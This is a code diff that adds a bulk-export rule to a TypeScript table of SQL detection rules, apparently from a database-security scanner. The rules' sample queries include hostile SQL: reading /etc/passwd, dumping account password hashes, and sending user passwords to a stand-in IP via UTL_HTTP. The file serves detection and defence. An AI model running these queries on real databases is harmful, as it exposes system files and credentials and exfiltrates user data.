@@ -37,6 +37,7 @@ export const effect = {
   fileRead: rule('server-file-read', 'sensitive_file_access', 'high', 'a file of the database server read', query("SELECT LOAD_FILE('/etc/passwd')"), query("SELECT load_file_count FROM imports"), 'ATT&CK T1005'),
   fileImport: rule('server-file-import', 'sensitive_file_access', 'low', 'a table filled from a file of the database server', query("COPY notes FROM '/tmp/notes.csv' CSV"), query('COPY notes FROM STDIN')),
   accountHashes: rule('account-hashes', 'sensitive_file_access', 'high', "password hashes read from the database's own accounts", query('SELECT user, authentication_string FROM mysql.user'), query('SELECT usename FROM pg_stat_activity'), 'ATT&CK T1003'),
+  bulkExport: rule('bulk-export', 'network_exfiltration', 'medium', 'a table copied out of the database to an address or a bucket', query("UNLOAD ('SELECT * FROM users') TO 's3://acme-exports/users'"), query("SELECT name FROM exports WHERE target LIKE 's3://%'"), 'ATT&CK T1567'),
   networkReach: rule('server-network', 'network_exfiltration', 'high', 'a connection opened by the database server: UTL_HTTP, dblink, UNC paths, XML entities', query("SELECT UTL_HTTP.REQUEST('http://198.51.100.7/'||password) FROM users"), query("SELECT url FROM http_requests WHERE host = '198.51.100.7'"), 'ATT&CK T1048'),
 } as const satisfies Readonly<Record<string, Rule>>;
 
